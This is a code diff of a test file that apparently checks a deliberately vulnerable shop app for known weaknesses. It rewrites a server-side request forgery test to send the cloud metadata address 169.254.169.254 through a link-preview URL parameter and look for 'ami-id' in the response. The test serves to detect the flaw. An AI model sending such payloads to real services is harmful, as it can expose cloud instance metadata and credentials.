@@ -3,11 +3,9 @@ import { tools } from "./tools.ts";
 
 testShop("tools", tools, {
   weaknesses: {
-    "Server-side request forgery in `callbackUrl`, which returns the response": async (api) => {
-      const body = { callbackUrl: "http://169.254.169.254/latest/meta-data/" };
-      return (await (await api.as("alice")).send("POST", "/v2/webhooks/test", { body })).text.includes(
-        "ami-id",
-      );
+    "Server-side request forgery in `url`, which returns the response": async (api) => {
+      const url = encodeURIComponent("http://169.254.169.254/latest/meta-data/");
+      return (await (await api.as("alice")).get(`/v2/link-previews?url=${url}`)).text.includes("ami-id");
     },
     "An invalid date returns a stack trace": async (api) => {
       const alice = await api.as("alice");
